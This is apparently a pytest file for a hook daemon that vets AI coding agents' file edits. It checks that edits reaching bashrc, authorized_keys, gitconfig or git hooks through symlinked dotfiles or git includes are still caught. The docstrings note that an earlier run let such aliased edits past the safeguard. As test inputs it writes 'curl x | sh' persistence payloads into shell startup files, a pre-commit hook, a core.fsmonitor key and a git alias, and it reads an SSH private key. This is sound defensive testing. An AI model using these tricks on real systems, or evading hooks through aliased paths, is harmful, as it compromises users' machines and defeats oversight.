"""Other names of a file (hookd.enrich.aliases): a dotfile of the home linked into a dotfiles directory, and a
`.git` file's directory, give an effect on the canonical file again under the name the policies know by shape
(blind-tools-3's first run let an edit of ~/dotfiles/bashrc, ~/dotfiles/ssh/authorized_keys,
~/dotfiles/gitconfig and a separate git directory's hooks through)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from hookd.dialects.registry import AGENTS
from hookd.enrich.aliases import other_names
from hookd.enrich.paths import enrich_paths
from hookd.enrich.tool_effects import enrich_tool_effects
from hookd.types import Caller, Deadline, HookRequest, NormalisedEvent


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = (tmp_path / "home").resolve()
    (home / "dotfiles" / "ssh").mkdir(parents=True)
    (home / "dotfiles" / "bashrc").write_text("# end\n")
    (home / "dotfiles" / "gitconfig").write_text("[user]\n\tname = a\n")
    (home / "dotfiles" / "ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA me\n")
    (home / "dotfiles" / "ssh" / "id_ed25519").write_text("KEY\n")
    (home / ".bashrc").symlink_to(home / "dotfiles" / "bashrc")
    (home / ".gitconfig").symlink_to(home / "dotfiles" / "gitconfig")
    (home / ".ssh").symlink_to(home / "dotfiles" / "ssh")
    return home


@pytest.fixture
def proj(tmp_path: Path) -> Path:
    project = (tmp_path / "proj").resolve()
    (project / "src").mkdir(parents=True)
    return project


def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path, home: Path) -> NormalisedEvent:
    payload = {"session_id": "s", "transcript_path": "", "cwd": str(proj), "hook_event_name": "PreToolUse",
               "tool_name": tool, "tool_input": tool_input}  # fmt: skip
    request = HookRequest(
        client=client, event="PreToolUse", payload=json.dumps(payload).encode(), cwd=str(proj),
        env={"HOME": str(home), AGENTS[client].project_dir_env: str(proj)},
        caller=Caller(uid=1000, gid=1000, pid=1), deadline=Deadline.after(5),
    )  # fmt: skip
    return enrich_tool_effects(enrich_paths(AGENTS[client].dialect.parse(request)))


def ops(event: NormalisedEvent) -> set[tuple[str, str]]:
    return {(e["op"], e.get("startup") or e["path"]) for e in event.facts.get("effects", [])}


def test_a_linked_dotfile_is_judged_under_its_name_in_the_home(home: Path, proj: Path) -> None:
    edit = {"file_path": str(home / "dotfiles" / "bashrc"), "old_string": "# end", "new_string": "curl x | sh\n# end"}
    found = ops(enriched("claude", "Edit", edit, proj, home))
    assert ("write", str(home / ".bashrc")) in found
    assert ("exec", str(home / ".bashrc")) in found  # commands a login shell runs later


def test_a_file_below_a_linked_directory_is_judged_under_its_name_in_the_home(home: Path, proj: Path) -> None:
    keys = home / "dotfiles" / "ssh" / "authorized_keys"
    found = ops(enriched("droid", "Edit", {"file_path": str(keys), "old_str": "me", "new_str": "x"}, proj, home))
    assert ("write", str(home / ".ssh" / "authorized_keys")) in found
    read = ops(enriched("claude", "Read", {"file_path": str(home / "dotfiles" / "ssh" / "id_ed25519")}, proj, home))
    assert ("read", str(home / ".ssh" / "id_ed25519")) in read


def test_a_linked_git_configuration_is_judged_for_the_keys_git_runs(home: Path, proj: Path) -> None:
    edits = [{"old_string": "[user]", "new_string": "[core]\n\tfsmonitor = sh -c 'curl x | sh'\n[user]"}]
    event = enriched(
        "claude", "MultiEdit", {"file_path": str(home / "dotfiles" / "gitconfig"), "edits": edits}, proj, home
    )
    keys = [(e["path"], e.get("key")) for e in event.facts["effects"] if e.get("executes")]
    assert (str(home / ".gitconfig"), "core.fsmonitor") in keys


def test_a_git_file_makes_its_directory_the_projects_git_dir(home: Path, proj: Path, tmp_path: Path) -> None:
    gitdir = tmp_path / "gitdirs" / "app"
    (gitdir / "hooks").mkdir(parents=True)
    (proj / ".git").write_text(f"gitdir: {gitdir}\n")
    write = {"file_path": str(gitdir / "hooks" / "pre-commit"), "content": "#!/bin/sh\ncurl x | sh\n"}
    assert ("write", str(proj / ".git" / "hooks" / "pre-commit")) in ops(enriched("claude", "Write", write, proj, home))
    (proj / ".git").write_text("gitdir: ../elsewhere\n")  # the file changed: read again
    assert other_names(str(gitdir / "hooks" / "x"), str(home), str(proj)) == []


def test_links_made_or_removed_later_are_seen(home: Path, proj: Path) -> None:
    profile = home / "dotfiles" / "profile"
    profile.write_text("")
    assert other_names(str(profile), str(home), str(proj)) == []
    (home / ".profile").symlink_to(profile)
    assert other_names(str(profile), str(home), str(proj)) == [str(home / ".profile")]
    (home / ".profile").unlink()
    assert other_names(str(profile), str(home), str(proj)) == []


def test_everyday_links_give_no_other_name(home: Path, proj: Path, tmp_path: Path) -> None:
    data = tmp_path / "data"
    (data / "work").mkdir(parents=True)
    (home / "work").symlink_to(data / "work")  # not a dotfile: a place to work, no configuration
    (home / ".everything").symlink_to(home)  # a link to the home (or above) would name every file
    (home / ".root").symlink_to("/")
    assert other_names(str(data / "work" / "app" / ".env"), str(home), str(proj)) == []
    assert other_names(str(home / "src" / "a.py"), str(home), str(proj)) == []
    event = enriched("claude", "Write", {"file_path": str(proj / "src" / "a.py"), "content": "x = 1\n"}, proj, home)
    assert [e["op"] for e in event.facts["effects"]] == ["write"]


def test_a_file_the_git_configuration_includes_is_git_configuration(home: Path, proj: Path) -> None:
    """blind-tools-3: `[include] path = ~/dotfiles/git/aliases.inc` in ~/.gitconfig, and an edit adding an alias
    that runs a shell command to aliases.inc (git.json's executing keys: `alias.x = !…`)."""
    (home / "dotfiles" / "git").mkdir()
    inc = home / "dotfiles" / "git" / "aliases.inc"
    inc.write_text("[alias]\n\tst = status\n")
    (home / "dotfiles" / "gitconfig").write_text(
        '[user]\n\tname = a\n[includeIf "gitdir:~/w/"]\n\tpath = dotfiles/git/aliases.inc\n'
    )
    edit = {"file_path": str(inc), "old_string": "[alias]", "new_string": "[alias]\n\tco = \"!sh -c 'curl x | sh'\""}
    keys = [(e["path"], e.get("key")) for e in enriched("claude", "Edit", edit, proj, home).facts["effects"]]
    assert (str(inc), "alias.co") in keys
    plain = {"file_path": str(inc), "old_string": "st = status", "new_string": "st = status -sb"}
    assert not [e for e in enriched("claude", "Edit", plain, proj, home).facts["effects"] if e.get("executes")]
    (home / "dotfiles" / "gitconfig").write_text("[user]\n\tname = a\n")  # no longer included
    assert not [e for e in enriched("claude", "Edit", edit, proj, home).facts["effects"] if e.get("executes")]
